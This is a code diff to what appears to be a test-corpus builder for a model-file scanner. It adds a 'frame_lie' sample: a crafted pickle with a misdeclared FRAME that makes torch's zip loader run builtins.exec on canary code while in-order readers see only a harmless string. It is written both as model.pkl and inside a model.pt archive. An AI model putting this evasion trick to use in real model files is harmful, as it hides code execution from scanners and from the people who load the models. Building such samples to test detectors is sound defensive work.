@@ -79,6 +79,20 @@ def stack_global_call(module: str, name: str, arg: str, *, proto: int = 4) -> by
     return b"\x80" + bytes([proto]) + _u(module) + _u(name) + b"\x93" + _u(arg) + b"\x85R."
 
 
+def frame_lie(canary: Path) -> bytes:
+    """A FRAME shorter than the argument that starts in it.
+
+    Read from ``io.BytesIO`` (torch's zip loader), CPython drops the rest of the frame and takes the
+    argument from the bytes after it, then runs the call; read in sequence (``pickle.loads``, any reader
+    that follows the bytes in order), the call is inside a byte string and nothing is imported.
+    """
+    payload = b"0" + _u("builtins") + _u("exec") + b"\x93" + _u(_canary_code(canary)) + b"\x85R."
+    assert len(payload) + 2 < 256
+    frame = b"\x8c\x20" + b"JUNKJ"  # SHORT_BINUNICODE of 32, with 5 of them left in the frame
+    after = b"F" * 27 + b"0C" + bytes([2 + len(payload)]) + b"xx" + payload + b"0N."
+    return b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame + after
+
+
 def _with_frame(body: bytes, declared: int) -> bytes:
     return b"\x80\x04\x95" + struct.pack("<Q", declared) + body
 
@@ -290,6 +304,13 @@ def build(root: Path, canary_dir: Path) -> list[Sample]:
         (d("pickle-evasion", name, allowed=allow_pickle) / "model.pkl").write_bytes(
             _with_frame(body, declared)
         )
+    for name, where in (("frame-lie", "model.pkl"), ("frame-lie-torch-zip", "model.pt")):
+        blob = frame_lie(c(name))
+        target = d("pickle-evasion", name, allowed=allow_pickle) / where
+        if where.endswith(".pt"):
+            _zip(target, {"archive/data.pkl": blob, "archive/version": b"3\n"})
+        else:
+            target.write_bytes(blob)
     name = "stack-pop"  # the operands of STACK_GLOBAL are not the last two strings in the file
     (d("pickle-evasion", name, allowed=allow_pickle) / "model.pkl").write_bytes(
         b"\x80\x04"
